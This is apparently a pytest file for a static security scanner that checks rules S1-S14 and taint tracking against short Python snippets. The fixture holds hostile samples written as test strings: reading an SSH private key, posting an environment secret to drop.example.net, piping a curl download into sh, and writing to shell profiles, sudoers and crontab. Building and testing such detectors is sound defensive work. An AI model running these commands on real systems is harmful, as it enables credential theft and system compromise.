"""Code rules S1-S14 and taint."""
import pytest

from conftest import rows
from vigil.operators.code_rules import code_findings


@pytest.fixture(scope="module")
def findings(spark):
    cases = {
        "safe.py": 'import subprocess\nsubprocess.call(("uptime",))\n',
        "dangerous.py": 'import subprocess\nwanted = fetch_order()\nsubprocess.check_call(wanted, shell=True)\n',
        "steal.py": 'blob = open("~/.ssh/id_ed25519").read()\n',
        "normal.py": 'rows = open("rows.csv").readlines()\n',
        "exfil.py": 'import os, httpx\npin = os.environ.get("BANK_SECRET")\nhttpx.post("https://drop.example.net", data=pin)\n',
        "ssrf.py": 'import requests\nrequests.put("http://0.0.0.0:9000/x")\n',
        "dl_exec.py": 'import os\nos.popen("curl -s https://get.example.net/go | sh")\n',
        "unsafe.py": 'import shelve\nshelve.open(where())\n',
        "safe_yaml.py": 'import yaml\nyaml.load(body, Loader=yaml.SafeLoader)\n',
        "write_profile.py": 'with open("~/.bash_profile", "w") as out:\n    out.write("a")\n',
        "write_normal.py": 'with open("report.txt", mode="a") as out:\n    out.write("a")\n',
        "eval_const.py": 'compile("2 ** 8", "f", "eval")\n',
        "eval_ext.py": 'import sys\nexec(sys.argv[2])\n',
        "launch_agent.py": 'where = "/Library/LaunchDaemons/net.example.plist"\n',
        "crontab.py": 'tool = "crontab -e"\n',
        "sudoers.py": 'where = "/etc/sudoers"\n',
        "hosts.py": 'where = "/etc/hosts"\n',
        "taint_chain.py": 'import sys, os\narg = sys.argv[1]\nfull = "cat " + arg + " | wc"\nos.system(full)\n',
        "const_chain.py": 'import subprocess\na = "du"\nb = a + " -s"\nsubprocess.check_output(b, shell=True)\n',
        "fstring_taint.py": 'import os, subprocess\nv = os.getenv("WHAT")\nsubprocess.Popen(f"run {v}", shell=True)\n',
        "runners.py": 'import trio, app\napp.run(conf)\ntrio.run(main)\ntable = {}\ntable.get("k")\n',
        "relint.py": 'import re\nrx = re.compile("b+")\n',
        "syntax_error.py": 'class :\n',
        "import_ext.py": 'import importlib, os\nimportlib.import_module(os.environ["PLUG"])\n',
    }
    f = spark.createDataFrame([("pkg", k, len(v), v) for k, v in cases.items()],
                              "package_id string, path string, size long, content string")
    return code_findings(f).cache()


def by(findings, path, rule=None):
    df = findings.where(f"path = '{path}'")
    if rule:
        df = df.where(f"rule_id = '{rule}'")
    return sorted(rows(df, "rule_id", "severity"))


def test_s1_constant_vs_input(findings):
    assert by(findings, "safe.py", "S1") == []
    assert by(findings, "dangerous.py", "S1") == [("S1", "high")]


def test_s2_sensitive_read(findings):
    assert by(findings, "steal.py", "S2") == [("S2", "critical")]
    assert by(findings, "normal.py", "S2") == []


def test_s8_s9_s10_s12(findings):
    assert ("S8", "critical") in by(findings, "exfil.py")
    assert by(findings, "ssrf.py", "S9") == [("S9", "critical")]
    assert by(findings, "dl_exec.py", "S10") == [("S10", "critical")]
    assert by(findings, "unsafe.py", "S12") == [("S12", "high")]
    assert by(findings, "safe_yaml.py", "S12") == []


def test_s3_s6_s13_s14(findings):
    assert by(findings, "write_profile.py", "S3") == [("S3", "critical")]
    assert by(findings, "write_normal.py", "S3") == []
    assert by(findings, "eval_const.py", "S6") == [("S6", "medium")]
    assert by(findings, "eval_ext.py", "S6") == [("S6", "critical")]
    assert by(findings, "launch_agent.py", "S13") == [("S13", "high")]
    assert by(findings, "crontab.py", "S13") == [("S13", "critical")]
    assert by(findings, "sudoers.py", "S14") == [("S14", "critical")]
    assert by(findings, "hosts.py", "S14") == [("S14", "high")]


def test_taint_propagation(findings):
    assert by(findings, "taint_chain.py", "S1") == [("S1", "critical")]
    assert by(findings, "const_chain.py", "S1") == [("S1", "medium")]
    assert by(findings, "fstring_taint.py", "S1") == [("S1", "critical")]
    assert by(findings, "import_ext.py", "S7") == [("S7", "critical")]


def test_false_positive_guards(findings):
    assert by(findings, "runners.py") == []
    assert by(findings, "relint.py", "S6") == []
    assert by(findings, "syntax_error.py") == []


def test_evidence_and_snippet(findings):
    r = findings.where("path = 'fstring_taint.py' AND rule_id = 'S1'").collect()[0]
    assert r.evidence == "Unsanitized input from os.getenv() flows to subprocess.Popen()"
    assert r.snippet == 'v = os.getenv("WHAT")\nsubprocess.Popen(f"run {v}", shell=True)'


def test_add_with_undefined_name_is_internal(spark):
    from vigil.operators.code_rules import code_findings as cf
    src = 'import subprocess\ncmd = undefined_base + " -la"\nsubprocess.run(cmd, shell=True)\n'
    f = spark.createDataFrame([("p", "u.py", len(src), src)], "package_id string, path string, size long, content string")
    r = cf(f).where("rule_id = 'S1'").collect()
    assert [(x.severity, x.evidence) for x in r] == [("high", "Variable argument (origin: internal)")]
